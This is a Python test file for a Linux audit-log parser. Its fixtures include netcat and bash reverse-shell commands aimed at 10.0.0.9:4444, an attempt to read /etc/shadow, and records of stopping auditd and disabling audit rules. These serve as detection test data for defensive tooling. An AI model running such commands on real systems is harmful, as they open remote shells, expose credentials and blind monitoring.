import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trine.log_formats.audit import Audit
from trine.log_formats.audit_records import LATER_EVENTS, AuditJoiner, decode
from trine.log_formats.log_event import HEADER, Header, Line, LogEvent

IDS = "auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3"
UNSET = "auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295"
NETCAT = f"""\
type=SYSCALL msg=audit(1714557600.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d8 a2=55e0 a3=8 \
items=2 ppid=2201 pid=2240 {IDS} comm="nc" exe="/usr/bin/nc.traditional" subj=unconfined key="exec"
type=EXECVE msg=audit(1714557600.123:456): argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="10.0.0.9" a4="4444"
type=CWD msg=audit(1714557600.123:456): cwd="/home/ann"
type=PATH msg=audit(1714557600.123:456): item=0 name="/usr/bin/nc" inode=131711 dev=08:01 mode=0100755 ouid=0 ogid=0 \
rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1714557600.123:456): proctitle=6E63002D65002F62696E2F73680031302E302E302E390034343434"""
SHADOW = f"""\
type=SYSCALL msg=audit(1714557601.000:457): arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c a1=7ffd a2=0 \
items=1 ppid=2201 pid=2241 {IDS} comm="cat" exe="/usr/bin/cat" subj=unconfined key="identity"
type=CWD msg=audit(1714557601.000:457): cwd="/etc"
type=PATH msg=audit(1714557601.000:457): item=0 name="shadow" inode=77 nametype=NORMAL
type=PROCTITLE msg=audit(1714557601.000:457): proctitle=63617400736861646F77"""
LOGIN = (
    "type=USER_LOGIN msg=audit(1714557602.500:458): pid=2837 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
    'msg=\'op=login acct=28756E6B6E6F776E207573657229 exe="/usr/sbin/sshd" '
    "hostname=? addr=198.51.100.7 terminal=sshd res=failed'"
)


def lines_of(text: str) -> list[Line]:
    return [Line(0, number, line) for number, line in enumerate(text.split("\n"), start=1)]


def joined(text: str) -> list[Line]:
    joiner = AuditJoiner()
    complete = [record for line in lines_of(text) for record in joiner.feed(line)]
    return [*complete, *joiner.finish()]


def read(text: str) -> list[LogEvent | Header | None]:
    form = Audit()
    return [form.parse(record.text) for record in joined(text)]


def event(text: str) -> LogEvent:
    (only,) = read(text)
    assert isinstance(only, LogEvent)
    return only


def without_marks(name: object) -> str:
    """The name of an event without what `values.marks` says of its texts."""
    return re.sub(r"odd:\S+ ?", "", str(name))


def call(number: int, fields: str = "", more: str = "", ids: str = IDS, exe: str = "/usr/bin/x") -> str:
    head = "msg=audit(1714557600.123:9):"
    comm = exe.rpartition("/")[2][:15]
    first = f'type=SYSCALL {head} arch=c000003e syscall={number} {fields} ppid=7 pid=8 {ids} comm="{comm}" exe="{exe}"'
    return "\n".join([first, *(line.replace("HEAD", head) for line in more.splitlines())])


def test_a_command_is_one_event_of_its_session_with_its_arguments():
    got = event(NETCAT)
    assert got.event == "execve nc.traditional {address flag:-e number path:/bin}"
    assert got.time == 1714557600.123
    assert got.entities == {"user": "1000", "process": "2240", "session": "3"}
    assert got.attributes["key"] == "exec"
    assert got.attributes["outcome"] == "yes"


def test_a_refused_call_names_its_error_and_its_file_that_holds_secrets():
    assert event(SHADOW).event == "openat cat {path:/etc/shadow} EACCES key:identity"


def test_records_of_events_can_alternate_and_nothing_is_lost():
    first, second = NETCAT.split("\n"), SHADOW.split("\n")
    mixed = [line for pair in zip(first, [*second, LOGIN], strict=True) for line in pair]
    records = joined("\n".join(mixed))
    assert sorted(record.text for record in records) == sorted([NETCAT, SHADOW, LOGIN])
    assert {record.text: record.number for record in records} == {NETCAT: 1, SHADOW: 2, LOGIN: 10}


def test_an_event_is_complete_with_its_title():
    joiner = AuditJoiner()
    counts = [len(joiner.feed(line)) for line in lines_of(f"{NETCAT}\n{LOGIN}")]
    assert counts == [0, 0, 0, 0, 1, 1]


def test_an_event_without_an_end_is_complete_when_many_others_began_or_time_has_passed():
    start = lines_of("type=SYSCALL msg=audit(100.000:1): syscall=2")[0]
    joiner = AuditJoiner()
    joiner.feed(start)
    others = [Line(0, n, f"type=SYSCALL msg=audit(100.500:{n}): syscall=2") for n in range(2, LATER_EVENTS + 3)]
    assert [record.number for line in others for record in joiner.feed(line)][:1] == [1]
    joiner = AuditJoiner()
    joiner.feed(start)
    assert joiner.feed(Line(0, 2, "type=SYSCALL msg=audit(101.900:2): syscall=2")) == []
    assert [record.number for record in joiner.feed(Line(0, 3, "type=SYSCALL msg=audit(102.100:3): syscall=2"))] == [1]


def test_events_come_in_the_order_in_which_they_began():
    first, second = NETCAT.split("\n"), SHADOW.split("\n")
    records = joined("\n".join([first[0], *second, *(LOGIN, *first[1:])]).replace("1714557602.500", "1714557601.500"))
    assert [record.number for record in records] == [1, 2, 6]


def test_hosts_with_the_same_serial_are_kept_apart():
    mine, other = (NETCAT.replace("type=", f"node={node} type=") for node in ("web1", "web2"))
    mixed = [line for pair in zip(mine.split("\n"), other.split("\n"), strict=True) for line in pair]
    got = read("\n".join(mixed))
    assert [each.entities["session"] for each in got if isinstance(each, LogEvent)] == ["web1:3", "web2:3"]
    assert [each.entities["host"] for each in got if isinstance(each, LogEvent)] == ["web1", "web2"]


def test_a_login_is_one_event_of_the_daemon_with_the_decoded_account():
    got = event(LOGIN)
    assert got.event == "USER_LOGIN login unknown sshd failed"
    assert got.entities == {
        "user": "(unknown user)",
        "process": "2837",
        "address": "198.51.100.7",
        "session": "unset:sshd@2024-05-01T10",
    }


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "type=SERVICE_START msg=audit(1650921443.544:279): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=init "
            'msg=\'unit=user@1000 comm="systemd" exe="/usr/lib/systemd/systemd" addr=? terminal=? res=success\'',
            "SERVICE_START unit:user@* systemd",
        ),
        (
            'type=CONFIG_CHANGE msg=audit(1782006242.898:271): auid=4294967295 op=remove_rule key="identity" '
            "list=4 res=1",
            "CONFIG_CHANGE remove_rule list:4 key:identity",
        ),
        (
            "type=CONFIG_CHANGE msg=audit(1782006242.898:271): op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1",
            "CONFIG_CHANGE set audit_enabled:0",
        ),
        (
            "type=ANOM_ABEND msg=audit(1782006243.900:273): auid=1000 uid=1000 gid=1000 ses=2 pid=3 "
            'comm="sudo" exe="/usr/bin/sudo" sig=11 res=1',
            "ANOM_ABEND sig:11 sudo",
        ),
        (
            'type=USER_CMD msg=audit(1782006242.900:272): pid=7765 uid=1000 auid=1000 ses=2 subj=x msg=\'cwd="/home/x" '
            'cmd=73797374656D63746C2073746F7020617564697464 exe="/usr/bin/sudo" terminal=pts/1 res=success\'',
            "USER_CMD sudo systemctl stop {guard word}",
        ),
        (
            "type=ADD_USER msg=audit(1723400001.000:457): pid=999 uid=0 auid=1000 ses=2 msg='op=adding user id=1001 "
            'exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success\'',
            "ADD_USER adding useradd",
        ),
        (
            "type=CRED_ACQ msg=audit(1714557602.500:458): pid=90 uid=0 auid=0 ses=5 subj=cron msg='op=PAM:setcred "
            'grantors=pam_permit acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success\'',
            "CRED_ACQ setcred root cron",
        ),
    ],
)
def test_records_of_programs_say_what_was_done_to_what_and_how_it_ended(line: str, expected: str):
    assert event(line).event == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            call(42, "success=no exit=-115", "type=SOCKADDR HEAD saddr=0200115CC63364070000000000000000", UNSET),
            "connect x {inet:public:high} EINPROGRESS",
        ),
        (
            call(
                49,
                "success=yes exit=0",
                "type=SOCKADDR HEAD saddr=0A00001600000000000000000000000000000000000000000000",
            ),
            "bind x {inet6:any:22}",
        ),
        (
            call(42, "success=yes exit=0", "type=SOCKADDR HEAD saddr=01002F72756E2F6E7363642F736F636B657400"),
            "connect x {local:/run/nscd}",
        ),
        (
            call(
                82,
                "success=yes exit=0",
                'type=PATH HEAD item=0 name="/etc/cron.d/" nametype=PARENT\n'
                'type=PATH HEAD item=1 name="/tmp/a" nametype=DELETE\n'
                'type=PATH HEAD item=2 name="/etc/cron.d/a" nametype=CREATE',
            ),
            "rename x {create:/etc/cron.d delete:/tmp}",
        ),
        (
            call(175, "success=yes exit=0", 'type=KERN_MODULE HEAD name="rootkit"', exe="/usr/bin/kmod"),
            "init_module kmod KERN_MODULE rootkit",
        ),
        (
            call(
                257,
                "success=no exit=-13",
                'type=AVC HEAD avc:  denied  { read } for  pid=8 comm="x" name="shadow" tclass=file permissive=0',
            ),
            "openat x EACCES AVC denied read tclass:file",
        ),
        (call(999, "success=yes exit=0"), "call:999 x"),
        (call(105, "success=no exit=-1", ids="auid=-1 uid=33 euid=33 ses=-1"), "setuid x EPERM"),
        (
            call(59, "success=yes exit=0", 'type=EXECVE HEAD argc=1 a0="x"', exe="/tmp/.hidden/x"),
            "execve /tmp/.*/* as:x {}",
        ),
        (
            call(
                59, "success=no exit=-2", 'type=PATH HEAD item=0 name="/opt/tool" nametype=UNKNOWN', exe="/usr/bin/bash"
            ),
            "execve bash {path:/opt} ENOENT",
        ),
        (
            call(59, "success=yes exit=0", "type=PROCTITLE HEAD proctitle=78002D65002F62696E2F7368"),
            "execve x {flag:-e path:/bin}",
        ),
    ],
)
def test_calls_name_folders_sockets_modules_and_refusals(text: str, expected: str):
    assert event(text).event == expected


def test_arguments_are_decoded_also_in_parts():
    code = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
    encoded = code.encode().hex().upper()
    more = f'type=EXECVE HEAD argc=3 a0="bash" a1="-c" a2_len={len(encoded)} a2[0]={encoded[:20]}\n'
    more += f"type=EXECVE HEAD a2[1]={encoded[20:]}"
    got = event(call(59, "success=yes", more, exe="/usr/bin/bash"))
    assert without_marks(got.event) == "execve bash {address flag:-c socket text}"


def test_an_architecture_decides_what_a_number_means():
    for arch, number in (("c000003e", 59), ("40000003", 11), ("c00000b7", 221)):
        line = f'type=SYSCALL msg=audit(1.000:1): arch={arch} syscall={number} success=yes exit=0 comm="a" exe="/bin/a"'
        assert event(line).event.startswith("execve a")


def test_the_enriched_form_names_users():
    got = event(NETCAT.replace('key="exec"', 'key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="ann" UID="ann" GID="ann"'))
    assert got.entities["user"] == "ann"
    assert got.event == event(NETCAT).event
    assert got.attributes["key"] == "exec"


INTERPRETED = """\
----
type=PROCTITLE msg=audit(05/01/2024 10:00:00.123:456) : proctitle=nc -e /bin/sh 10.0.0.9 4444
type=PATH msg=audit(05/01/2024 10:00:00.123:456) : item=0 name=/usr/bin/nc inode=131711 nametype=NORMAL
type=CWD msg=audit(05/01/2024 10:00:00.123:456) : cwd=/home/ann
type=EXECVE msg=audit(05/01/2024 10:00:00.123:456) : argc=5 a0=nc a1=-e a2=/bin/sh a3=10.0.0.9 a4=4444
type=SYSCALL msg=audit(05/01/2024 10:00:00.123:456) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55d0 items=2 \
ppid=2201 pid=2240 auid=ann uid=ann gid=ann euid=ann tty=pts0 ses=3 comm=nc exe=/usr/bin/nc.traditional key=exec
----
type=PROCTITLE msg=audit(05/01/2024 10:00:01.000:457) : proctitle=bash -c for i in 1 2; do nc 10.0.0.$i; done
type=EXECVE msg=audit(05/01/2024 10:00:01.000:457) : argc=3 a0=bash a1=-c a2=for i in 1 2; do nc 10.0.0.$i; done ses=9
type=SYSCALL msg=audit(05/01/2024 10:00:01.000:457) : arch=x86_64 syscall=execve success=no \
exit=EACCES(Permission denied) ppid=2201 pid=2241 auid=ann uid=ann tty=pts0 ses=3 comm=bash exe=/usr/bin/bash key=(null)
----
type=USER_CMD msg=audit(05/01/2024 10:00:02.000:458) : pid=7 uid=ann auid=ann ses=3 msg='cwd=/home/ann \
cmd=systemctl stop httpd terminal=pts/1 res=success'"""


def test_what_ausearch_interpreted_is_read_alike():
    events = [each for each in read(INTERPRETED) if isinstance(each, LogEvent)]
    assert [without_marks(each.event) for each in events] == [
        "execve nc.traditional {address flag:-e number path:/bin}",
        "execve bash {flag:-c text} EACCES",
        "USER_CMD systemctl stop {word}",
    ]
    assert [each.entities["session"] for each in events] == ["3", "3", "3"]
    assert {each.entities["user"] for each in events} == {"ann"}
    assert read(INTERPRETED).count(HEADER) == 3


def test_what_ausearch_found_has_headers_and_the_title_first():
    text = "----\ntime->Wed May  1 10:00:00 2024\n" + "\n".join(reversed(NETCAT.split("\n")))
    got = read(f"{text}\n{text.replace(':456', ':457')}")
    assert [each.event if isinstance(each, LogEvent) else each for each in got] == [
        *(HEADER, HEADER, event(NETCAT).event),
        *(HEADER, HEADER, event(NETCAT).event),
    ]


def test_what_a_daemon_starts_belongs_to_the_session_of_the_daemon():
    def started(serial: int, pid: int, parent: int, exe: str) -> str:
        return (
            f"type=SYSCALL msg=audit(100.000:{serial}): arch=c000003e syscall=59 success=yes exit=0 "
            f'ppid={parent} pid={pid} {UNSET} comm="x" exe="{exe}"'
        )

    lines = [
        started(1, 500, 1, "/usr/sbin/php-fpm8.2"),
        started(2, 600, 500, "/usr/bin/dash"),
        started(3, 601, 600, "/usr/bin/nc.traditional"),
        started(4, 700, 1, "/usr/sbin/cupsd"),
        started(5, 800, 55, "/usr/bin/unknown-parent"),
    ]
    events = [each for each in read("\n".join(lines)) if isinstance(each, LogEvent)]
    assert [each.entities["session"] for each in events] == [
        *["unset:php-fpm8.2@1970-01-01T00"] * 3,
        "unset:cupsd@1970-01-01T00",
        "unset:unknown-parent@1970-01-01T00",
    ]


def test_what_a_daemon_does_in_an_hour_is_a_session():
    sessions = [
        event(LOGIN.replace("1714557602.500", time)).entities["session"] for time in ("1714561199.9", "1714561200.0")
    ]
    assert sessions == ["unset:sshd@2024-05-01T10", "unset:sshd@2024-05-01T11"]
    assert event(LOGIN.replace("1714557602.500", "999999999999.9")).entities["session"] == "unset:sshd@?"


def test_a_session_is_that_of_the_record_that_has_one():
    title = 'type=PROCTITLE msg=audit(1714557601.000:457): proctitle="x ses=99"'
    assert event("\n".join([*SHADOW.split("\n")[:-1], title])).entities["session"] == "3"


def test_a_value_that_a_user_chose_replaces_no_other():
    got = event(SHADOW.replace('name="shadow"', 'name="ses=77 auid=0"'))
    assert got.entities["session"] == "3"
    assert got.entities["user"] == "1000"


@pytest.mark.parametrize("line", ["", "----", "time->Wed May  1 10:00:00 2024", "type=EOE msg=audit(1.000:2): "])
def test_lines_between_events_are_headers(line: str):
    assert read(line) == [HEADER]


@pytest.mark.parametrize(
    "line",
    [
        "type=SYSCALL msg=audit(1714557600.123:45",
        "type=SYSCALL msg=audit(): arch=c000003e",
        "May  1 10:00:00 web1 sshd[1]: Accepted password for ann",
        '{"type": "SYSCALL"}',
    ],
)
def test_other_lines_are_not_of_this_format(line: str):
    assert read(line) == [None]


def test_each_record_alone_is_an_event():
    for line in [*NETCAT.split("\n"), *SHADOW.split("\n"), LOGIN]:
        alone = Audit().parse(line)
        assert isinstance(alone, LogEvent)
        assert alone.event


def test_hexadecimal_values_are_decoded_and_others_left():
    assert decode("2F746D702F6120622E7368") == "/tmp/a b.sh"
    assert decode("6C73002D6C00") == "ls\0-l"
    assert decode("root") == "root"
    assert decode("FFFE41") == "\\xff\\xfeA"


records = st.builds(
    "{}type={} msg=audit({}:{}){} {}".format,
    st.sampled_from(["", "node=a ", "node=b "]),
    st.sampled_from(
        ["SYSCALL", "EXECVE", "PATH", "PROCTITLE", "EOE", "USER_LOGIN", "SOCKADDR", "AVC", "CWD", "UNKNOWN[1]"]
    ),
    st.sampled_from(["1.000", "1.500", "9.000", "0.000", "05/01/2024 10:00:00.123"]),
    st.integers(0, 4),
    st.sampled_from([":", " :"]),
    st.text(max_size=60)
    | st.sampled_from(["saddr=0200", "a0=41 a1[0]=4 saddr=02", "saddr=0A00", "ses=", "exit=-99999999999"]),
)
anything = records | st.text(max_size=60) | st.sampled_from([*NETCAT.split("\n"), *SHADOW.split("\n"), LOGIN, "----"])


@given(st.lists(anything.map(lambda text: text.replace("\n", " ")), max_size=30))
def test_every_line_comes_back_once_and_nothing_breaks_the_format(texts: list[str]):
    got = joined("\n".join(texts))
    assert sorted(line for record in got for line in record.text.split("\n")) == sorted("\n".join(texts).split("\n"))
    for record in got:
        read_one = Audit().parse(record.text)
        assert not isinstance(read_one, LogEvent) or read_one.event


@given(st.text(max_size=200))
def test_no_text_breaks_the_format(text: str):
    for line in (text, *NETCAT.split("\n")):
        for cut in (line, line[: len(text)], line.replace("=", f"={text}", 1)):
            Audit().parse(cut)


def test_memory_is_bounded_whatever_comes():
    joiner = AuditJoiner()
    given_back = 0
    for number in range(8_000):
        line = f"node=host{number % 500} type=PATH msg=audit(5.000:{number % 3000}): item=0"
        given_back += sum(record.text.count("\n") + 1 for record in joiner.feed(Line(0, number, line)))
    assert 8_000 - given_back <= 256 * (LATER_EVENTS + 1)
    joiner = AuditJoiner()
    same = [joiner.feed(Line(0, number, "type=PATH msg=audit(5.000:1): item=0")) for number in range(2000)]
    assert sum(map(len, same)) == 2


@pytest.mark.parametrize("filling", ["a=", 'a="', "a1[0]=", " a1=", "'", "41", "ses=3 ", "{ ", "::", "\x1d", "x" * 64])
@pytest.mark.parametrize("kind", ["SYSCALL", "EXECVE", "USER_AUTH", "AVC"])
def test_a_long_line_takes_no_time(kind: str, filling: str):
    start = time.perf_counter()
    for end in (": ", " : "):
        Audit().parse(f"type={kind} msg=audit(1.000:1){end}" + filling * (100_000 // len(filling)))
    assert time.perf_counter() - start < 2
